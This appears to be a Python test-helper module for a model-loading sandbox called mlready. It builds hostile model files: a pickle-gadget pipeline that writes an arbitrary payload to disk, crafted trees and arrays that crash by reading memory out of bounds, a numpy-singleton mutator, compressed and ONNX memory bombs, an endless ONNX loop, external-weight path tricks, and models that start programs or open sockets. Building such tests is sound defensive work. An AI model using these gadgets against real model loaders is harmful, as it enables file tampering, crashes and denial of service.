"""Hostile model files, built by the tests from the attack classes mlready must contain.

Every builder writes a file whose attack works when the file is loaded and called in an
ordinary process; :func:`unsandboxed` does exactly that in a throwaway child, so that each
test can show the attack is live before showing that the sandbox stops it.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import pandas as pd
from sklearn.ensemble import StackingClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer
from sklearn.tree import DecisionTreeClassifier

ROOT = Path(__file__).resolve().parents[1]


def file_writer(target: Path, payload: bytes) -> Pipeline:
    """A pipeline of allow-listed scikit-learn and numpy names only that writes ``payload``
    to ``target`` when it predicts: ``numpy.sum(X, where=False, initial=PATH,
    dtype=object)`` turns any X into the string PATH, and a StackingClassifier whose
    fitted state says ``estimators_ = [a bytes array]``, ``stack_method_ = ["tofile"]``
    runs ``payload_array.tofile(PATH)``."""
    to_path = FunctionTransformer(
        func=np.sum,
        kw_args={"where": False, "initial": str(target), "dtype": object},
        validate=True,
    )
    to_path.fit(np.zeros((2, 30)))
    stack = StackingClassifier(estimators=[("a", LogisticRegression())])
    stack.estimators_ = [np.array(payload)]
    stack.stack_method_ = ["tofile"]
    stack.final_estimator_ = LogisticRegression().fit(np.zeros((4, 1)), [0, 1, 0, 1])
    stack.classes_ = np.array([0, 1])
    stack._label_encoder = None
    stack.named_estimators_ = {}
    return Pipeline([("to_path", to_path), ("stack", stack)])


def crafted_tree(train: pd.DataFrame, target: str = "target") -> DecisionTreeClassifier:
    """A fitted tree whose root points outside the node array: scikit-learn's predict reads
    out of bounds and the interpreter dies (SIGSEGV). Every class in it is allow-listed."""
    X, y = train.drop(columns=target), train[target]
    model = DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y)
    poison(model, 0)
    return model


def poison(model: DecisionTreeClassifier, node: int) -> None:
    """Make ``node`` of a fitted tree point far outside the node array."""
    state = model.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][node] = nodes["right_child"][node] = 2**40
    model.tree_.__setstate__({**state, "nodes": nodes})


class StartsProgram(DecisionTreeClassifier):
    """A model whose predict starts a program that creates ``canary_``."""

    def predict(self, X: Any) -> Any:
        subprocess.run(["touch", self.canary_], check=False)
        return super().predict(X)


class OpensSocket(DecisionTreeClassifier):
    """A model whose predict connects to ``port_`` on 127.0.0.1 and sends a line."""

    def predict(self, X: Any) -> Any:
        import socket

        with socket.create_connection(("127.0.0.1", self.port_), timeout=10) as conn:
            conn.sendall(b"the model phoned home\n")
        return super().predict(X)


class _Reduced:
    """Pickles as ``__reduce__`` returns ``parts``: a call, its state, items to set."""

    def __init__(self, *parts: Any) -> None:
        self.parts = parts

    def __reduce__(self) -> tuple[Any, ...]:
        return self.parts


def array_interface_model(train: pd.DataFrame, target: str = "target") -> LogisticRegression:
    """A logistic regression whose ``coef_`` is numpy's view of raw memory at address 8: a
    ``Bunch`` gets an ``__array_interface__`` key by SETITEMS, then the allow-listed
    ``numpy.asarray`` follows it. Predicting reads that memory: SIGSEGV."""
    from sklearn.utils import Bunch

    X, y = train.drop(columns=target), train[target]
    model = LogisticRegression(max_iter=5_000).fit(X, y)
    interface = {"data": (8, False), "shape": model.coef_.shape, "typestr": "<f8", "version": 3}
    bunch = _Reduced(Bunch, (), None, None, iter([("__array_interface__", interface)]))
    model.coef_ = _Reduced(np.asarray, (bunch,))
    return model


def singleton_mutator() -> LogisticRegression:
    """A fitted model that carries ``numpy.ma.masked`` after a BUILD that rewrites the data
    of that process-wide singleton: ``MaskedConstant()`` returns the singleton itself."""
    from numpy.ma.core import MaskedConstant

    state = (1, (), np.dtype(float), False, np.float64(42.0).tobytes(), True, 7.0)
    model = LogisticRegression().fit(np.eye(2), [0, 1])
    model.extra_ = _Reduced(MaskedConstant, (), state)
    return model


def compressed_bomb(path: Path, gib: float) -> Path:
    """A small zlib joblib file holding a fitted model with a ``gib`` GiB array of zeros."""
    model = LogisticRegression().fit(np.eye(2), [0, 1])
    model.padding_ = np.zeros(int(gib * 2**30) // 8)
    joblib.dump(model, path, compress=1)
    return path


def _onnx_io(helper: Any, TensorProto: Any, width: int) -> tuple[list[Any], list[Any]]:
    return (
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, width])],
        [helper.make_tensor_value_info("variable", TensorProto.FLOAT, [None, 1])],
    )


def _first_column_plus(helper: Any, TensorProto: Any, extra: str) -> tuple[list[Any], list[Any]]:
    nodes = [
        helper.make_node("Mul", [extra, "zero"], ["nothing"]),
        helper.make_node("Slice", ["X", "starts", "ends", "axes"], ["first"]),
        helper.make_node("Add", ["first", "nothing"], ["variable"]),
    ]
    constants = [
        helper.make_tensor("zero", TensorProto.FLOAT, [], [0.0]),
        helper.make_tensor("starts", TensorProto.INT64, [1], [0]),
        helper.make_tensor("ends", TensorProto.INT64, [1], [1]),
        helper.make_tensor("axes", TensorProto.INT64, [1], [1]),
    ]
    return nodes, constants


def onnx_loop(path: Path, width: int, iterations: int = 10**12) -> Path:
    """A regressor graph whose ``Loop`` runs ``iterations`` times before it answers."""
    import onnx
    from onnx import TensorProto, helper

    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Add", ["v_in", "one"], ["v_out"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_in", TensorProto.FLOAT, []),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_out", TensorProto.FLOAT, []),
        ],
        [helper.make_tensor("one", TensorProto.FLOAT, [], [1.0])],
    )
    tail, constants = _first_column_plus(helper, TensorProto, "counted")
    loop = helper.make_node("Loop", ["trip", "cond", "v0"], ["counted"], body=body)
    constants += [
        helper.make_tensor("trip", TensorProto.INT64, [], [iterations]),
        helper.make_tensor("cond", TensorProto.BOOL, [], [True]),
        helper.make_tensor("v0", TensorProto.FLOAT, [], [0.0]),
    ]
    inputs, outputs = _onnx_io(helper, TensorProto, width)
    graph = helper.make_graph([loop, *tail], "loop", inputs, outputs, constants)
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), path)
    return path


def onnx_bomb(path: Path, width: int, gib: float) -> Path:
    """A regressor graph that builds a ``gib`` GiB tensor on every call (a few hundred
    bytes on disk)."""
    import onnx
    from onnx import TensorProto, helper

    value = helper.make_tensor("v", TensorProto.DOUBLE, [1], [1.0])
    tail, constants = _first_column_plus(helper, TensorProto, "total_f")
    nodes = [
        helper.make_node("ConstantOfShape", ["shape"], ["big"], value=value),
        helper.make_node("ReduceSum", ["big"], ["total"], keepdims=0),
        helper.make_node("Cast", ["total"], ["total_f"], to=TensorProto.FLOAT),
        *tail,
    ]
    constants.append(helper.make_tensor("shape", TensorProto.INT64, [1], [int(gib * 2**27)]))
    inputs, outputs = _onnx_io(helper, TensorProto, width)
    graph = helper.make_graph(nodes, "bomb", inputs, outputs, constants)
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), path)
    return path


def onnx_with_outside_weights(path: Path, weights: Path, width: int) -> Path:
    """A linear regressor graph whose weights are "external data" at the relative path
    ``weights.name``: read from whatever directory the loading process runs in."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    W = numpy_helper.from_array(np.ones((width, 1), np.float32), "W")
    inputs, outputs = _onnx_io(helper, TensorProto, width)
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["variable"])], "outside", inputs, outputs, [W]
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    onnx.save_model(
        model, path, save_as_external_data=True, location=weights.name, size_threshold=0
    )
    (path.parent / weights.name).replace(weights)
    return path


_UNSANDBOXED = """
import json, sys, warnings
import pandas as pd
from mlready.io.model import load_model
warnings.simplefilter("ignore")
path, rows = sys.argv[1], sys.argv[2]
report = {}
try:
    model = load_model(path, trust=True).estimator
    X = pd.read_csv(rows).drop(columns="target", errors="ignore")
    names = getattr(model, "feature_names_in_", None)
    X = X[list(names)] if names is not None else X.to_numpy(dtype="float32")
    model.predict(X)
    report["predicted"] = True
except Exception as exc:
    report["error"] = f"{type(exc).__name__}: {exc}"
import numpy as np
report["masked_data"] = float(np.ma.masked.data)
for line in open("/proc/self/status"):
    if line.startswith("VmHWM"):
        report["peak_mb"] = int(line.split()[1]) / 1024
print("REPORT " + json.dumps(report))
"""


def start_unsandboxed(model: Path, rows: Path, cwd: Path | None = None) -> subprocess.Popen[str]:
    """Start loading ``model`` as an ordinary process would (no allow-list, no sandbox) in
    a throwaway child (in ``cwd``), and predicting the rows of the CSV file ``rows``."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), *sys.path])}
    return subprocess.Popen(
        [sys.executable, "-c", _UNSANDBOXED, str(model), str(rows)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        cwd=cwd,
    )


def unsandboxed(
    model: Path, rows: Path, cwd: Path | None = None, timeout: float = 600
) -> tuple[int, dict[str, Any]]:
    """:func:`start_unsandboxed`, waited for: the child's exit status (a negative number
    is the signal that killed it) and what it reported."""
    child = start_unsandboxed(model, rows, cwd)
    try:
        stdout, _ = child.communicate(timeout=timeout)
    finally:
        child.kill()
    line = next((ln for ln in stdout.splitlines() if ln.startswith("REPORT ")), None)
    return child.returncode, {} if line is None else json.loads(line.removeprefix("REPORT "))
